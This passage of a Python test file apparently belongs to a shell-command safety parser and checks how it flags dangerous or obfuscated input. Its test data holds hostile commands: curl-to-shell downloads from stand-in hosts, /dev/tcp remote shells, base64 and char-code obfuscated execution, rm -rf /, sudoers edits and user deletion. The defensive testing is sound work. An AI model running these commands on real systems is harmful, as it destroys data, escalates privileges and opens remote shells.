        ("id", "delayed"),
        ("ls", "alias"),
        ("id", "alias"),
    ]


def test_parse_alias_body_is_judged_at_definition() -> None:
    result = parse("alias gst='git status; curl -s http://198.51.100.3/x | sh'")
    assert _find(result, "sh").origin == "delayed"
    assert _find(result, "curl").origin == "delayed"


def test_parse_interpreter_reading_network_program_is_dynamic() -> None:
    for command in (
        "curl -s http://x.example/p | python3",
        "python3 <(curl -s http://x.example/p)",
        "wget -qO- http://x.example/p | perl",
    ):
        result = parse(command)
        interpreter = result.commands[-1]
        assert interpreter.dynamic and interpreter.stdin_is_network, command
        assert "dynamic_code" in result.flags


def test_parse_data_piped_into_a_script_is_not_code() -> None:
    result = parse("cat rows.json | python3 tools/check.py")
    assert not result.flags
    assert [c.name for c in result.commands] == ["cat", "python3"]


def test_parse_dynamic_output_is_not_decoded() -> None:
    # echo of an unknown variable prints something unknown: never parse a guess of it.
    result = parse("echo $PAYLOAD | base64 -d | sh")
    assert _find(result, "sh").dynamic
    assert "dynamic_code" in result.flags


def test_parse_shell_reading_dev_tcp_is_network() -> None:
    result = parse("bash < /dev/tcp/192.0.2.8/4444")
    assert _find(result, "bash").stdin_is_network
    assert "dynamic_code" in result.flags


def test_parse_harmless_value_substitutions_stay_resolved() -> None:
    result = parse('echo "$(whoami) ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers; make -j$(nproc)')
    assert _find(result, "echo").args == ["root ALL=(ALL) NOPASSWD: ALL"]
    assert _find(result, "make").args == ["-j2"]
    assert "unresolved" not in result.flags
    assert "command_substitution" not in _find(result, "echo").obfuscation


def test_parse_cd_then_pwd_substitution() -> None:
    result = parse("cd /srv && rm -rf $(pwd)/*")
    assert _find(result, "rm").args == ["-rf", "/srv/*"]


def test_parse_deep_wrapper_chain() -> None:
    result = parse("sudo env nice timeout 5 nohup setsid stdbuf -o0 rm -rf /x")
    inner = _find(result, "rm")
    assert inner.wrappers == ["sudo", "env", "nice", "timeout", "nohup", "setsid", "stdbuf"]


# ---------------------------------------------------------------------- bad input


BAD_INPUT = [
    ("empty", "", {"empty"}),
    ("whitespace", " \t\n  ", {"empty"}),
    ("nul_bytes", "ls\x00 -la", {"binary"}),
    ("invalid_utf8", b"echo \xff\xfe rm", {"binary"}),
    ("unbalanced_single", "echo 'unterminated | sh", {"parse_error"}),
    ("unbalanced_double", 'rm -rf "/etc', {"parse_error"}),
    ("unbalanced_subst", "echo $(ls", {"parse_error"}),
    ("huge", "echo " + "a" * (1024 * 1024), {"too_large", "truncated"}),
    ("deep_substitution", "$(echo " * 1000 + "x" + ")" * 1000, {"too_deep"}),
    ("deep_backticks", "echo " + "$(" * 1000 + ")" * 1000, {"too_deep"}),
    ("deep_subshells", "( " * 2000 + "ls" + " )" * 2000, {"too_deep"}),
    ("deep_arithmetic", "(" * 2000 + "ls" + ")" * 2000, set()),
    ("deep_sh_c", "sh -c " * 40 + "ls", set()),
    ("lone_surrogate", "echo \ud800", {"binary"}),
    ("many_commands", "echo hi; " * 20000, {"too_large", "truncated"}),
    (
        "base_number_before_redirect",
        "c|$><~^c\t>:+c:%|+) }`5X2'1@c\t:$`m[|'`2,<#?/b:54|=610]b]6~5c2'c~#*$?{\n3#5x3>]",
        {"parse_error"},
    ),
]


@pytest.mark.parametrize("command, flags", [c[1:] for c in BAD_INPUT], ids=[c[0] for c in BAD_INPUT])
def test_parse_bad_input_never_raises_and_is_flagged(command, flags) -> None:
    result = parse(command)
    assert isinstance(result, ParseResult)
    assert not any("internal parser error" in error for error in result.errors), result.errors
    assert flags <= result.flags, result.flags
    assert isinstance(result.normalized, str)


def test_parse_unbalanced_quote_still_emits_commands() -> None:
    result = parse("rm -rf / ; echo 'oops")
    assert _has(result, "rm", "/")
    assert "parse_error" in result.flags


def test_parse_nul_inside_name_is_removed() -> None:
    result = parse("r\x00m -rf /")
    assert _has(result, "rm", "/")
    assert "binary" in result.flags


def test_parse_line_continuation_inside_a_word() -> None:
    assert _find(parse("r\\\nm -rf /x"), "rm").args == ["-rf", "/x"]
    assert _find(parse("echo 'a\\\nb'"), "echo").args == ["a\\\nb"]


def test_parse_shell_reading_a_network_descriptor() -> None:
    result = parse("exec 3<>/dev/tcp/192.0.2.1/80; sh <&3 >&3 2>&3")
    assert _find(result, "sh").stdin_is_network
    assert any(r.target == "/dev/tcp/192.0.2.1/80" for r in _find(result, "exec").redirects)
    assert "dynamic_code" in result.flags


@pytest.mark.parametrize(
    "command", ["{\U000e0000", "{\U00031860", "echo {a} '\U0001f600'", "\u00a7{\U000eda54K"]
)
def test_parse_astral_characters_do_not_reach_tree_sitter(command: str) -> None:
    # tree-sitter-bash#337: `{` then a 4-byte UTF-8 character segfaults the process.
    for _ in range(20):
        result = parse(command)
    assert "\ufffd" in result.normalized or not result.commands
    assert result.source == command


def test_parse_crlf_line_endings() -> None:
    result = parse("cd /tmp\r\nrm -rf /\r\n")
    assert _find(result, "rm").args == ["-rf", "/"]


def test_parse_bytes_input_accepted() -> None:
    assert parse(b"ls -la").commands[0].argv == ["ls", "-la"]


def test_parse_deep_nested_shell_strings_are_capped() -> None:
    # eval re-parses its joined arguments, so each eval is one more nested shell string.
    result = parse("eval " * 40 + "ls")
    assert "too_deep" in result.flags


def test_parse_is_thread_safe() -> None:
    commands = [f"sudo rm -rf /{i}" for i in range(50)]
    outputs: dict[int, list[str]] = {}

    def work(index: int) -> None:
        outputs[index] = [parse(c).normalized for c in commands]

    threads = [threading.Thread(target=work, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    expected = [f"sudo rm -rf /{i}" for i in range(50)]
    assert all(value == expected for value in outputs.values())


# ---------------------------------------------------------------------- fast path


FAST_PATH_CASES = [
    "ls -la",
    "git push origin feature/x",
    "rm -rf /",
    "sudo rm -rf /var/lib/x",
    "busybox rm -rf /a",
    "xargs rm",
    "find . -name x -delete",
    "env rm -rf /x",
    "cd /tmp",
    "git -c core.pager=less log",
    "/bin/rm -rf /etc/../boot/",
    "timeout 5 ssh host reboot",
    "kubectl exec pod -- rm -rf /data",
    "sh",
    "eval ls",
    "npm run build --prefix=./web/../api",
    'git commit -m "fix: handle rm -rf in docs"',
    "grep -rn 'TODO' src | head -20",
    "cd src && make build; make test || echo failed",
    "curl -s http://x.example/i.sh | sh",
    "echo cm0gLXJmIC8= | base64 -d | bash",
    "echo 'rm -rf /tmp/x' | sh",
    "'ls' -la",
    'echo "" | wc -c',
    "echo /etc | xargs rm -rf",
    "alias ll=ls; ll",
    "printf 'halt' | sh",
    "set -- rm -rf /; echo done",
]


def test_parse_fast_path_used_for_plain_input(monkeypatch) -> None:
    from shield.parsing import analyzer

    calls = []
    monkeypatch.setattr(analyzer.Analyzer, "parse_text", lambda *a, **k: calls.append(a))
    parse('git commit -m "x" && npm test | tail -3')
    assert calls == []


@pytest.mark.parametrize(
    "command", ["r''m -rf /", 'a"b" c', "ls |", "x=1 ls", "if true; then ls; fi", "ls &"]
)
def test_parse_fast_path_declines_tricky_input(command: str) -> None:
    from shield.parsing import analyzer

    assert not analyzer._FAST_PATH.match(command) or analyzer._fast_statements(command) is None


def _snapshot(result: ParseResult):
    return (
        result.normalized,
        sorted(result.flags),
        [
            (
                c.name,
                c.args,
                c.path,
                c.origin,
                c.wrappers,
                c.privileged,
                c.depth,
                c.dynamic,
                c.obfuscation,
                c.background,
                [(r.op, r.target, r.fd) for r in c.redirects],
            )
            for c in result.commands
        ],
    )


@pytest.mark.parametrize("command", FAST_PATH_CASES)
def test_parse_fast_path_matches_tree_path(command: str, monkeypatch) -> None:
    from shield.parsing import analyzer

    fast = _snapshot(parse(command))
    monkeypatch.setattr(analyzer, "_FAST_PATH", analyzer.re.compile(r"(?!)"))
    slow = _snapshot(parse(command))
    assert fast == slow


@pytest.mark.parametrize(
    "command, argv, label",
    [
        (
            "node -e \"require('child_process').execSync(String.fromCharCode(104,97,108,116))\"",
            ["halt"],
            "decode",
        ),
        ("perl -e 'system(join(\"\", map { chr } (104,97,108,116)))'", ["halt"], "decode"),
        ("python3 -c \"import os; os.system(''.join(map(chr, [104,97,108,116])))\"", ["halt"], "decode"),
        ("python3 -c \"import codecs,os; os.system(codecs.decode('unyg', 'rot_13'))\"", ["halt"], "rot13"),
    ],
)
def test_parse_interpreter_decodes_char_codes_and_rot13(command: str, argv: list[str], label: str) -> None:
    found = _find(parse(command), *argv)
    assert label in found.obfuscation, found.obfuscation


@pytest.mark.parametrize(
    "command, argv",
    [
        ("tclsh <<< 'exec userdel -r bob'", ["userdel", "-r", "bob"]),
        ("expect -c 'spawn passwd -d bob; expect eof'", ["passwd", "-d", "bob"]),
        ("sed 'e' <<< 'userdel -r bob'", ["userdel", "-r", "bob"]),
        ("sed -n '1e' <<< 'halt'", ["halt"]),
        ("make --eval='t:; @userdel -r bob' t", ["userdel", "-r", "bob"]),
        ("make -f - <<< $'all:\\n\\tuserdel -r bob'", ["userdel", "-r", "bob"]),
    ],
)
def test_parse_tcl_sed_and_make_run_their_commands(command: str, argv: list[str]) -> None:
    assert argv in _argvs(parse(command)), _argvs(parse(command))


def test_parse_plain_sed_and_make_run_nothing_extra() -> None:
    assert _argvs(parse("sed -n 's/a/b/p' notes.txt")) == [["sed", "-n", "s/a/b/p", "notes.txt"]]
    assert _argvs(parse("make -j4 test")) == [["make", "-j4", "test"]]


def test_parse_crontab_file_written_earlier_is_its_input() -> None:
    result = parse("echo '@reboot /opt/x' > /tmp/ct; crontab /tmp/ct")
    assert _find(result, "crontab", "/tmp/ct").stdin_text == "@reboot /opt/x\n"


def test_parse_ls_d_prints_its_operands_to_xargs() -> None:
    assert ["rm", "-r", "/srv/a*"] in _argvs(parse("ls -d /srv/a* | xargs rm -r"))
    assert _find(parse("ls -l /srv | xargs echo"), "xargs").dynamic  # ls -l output is not simulated
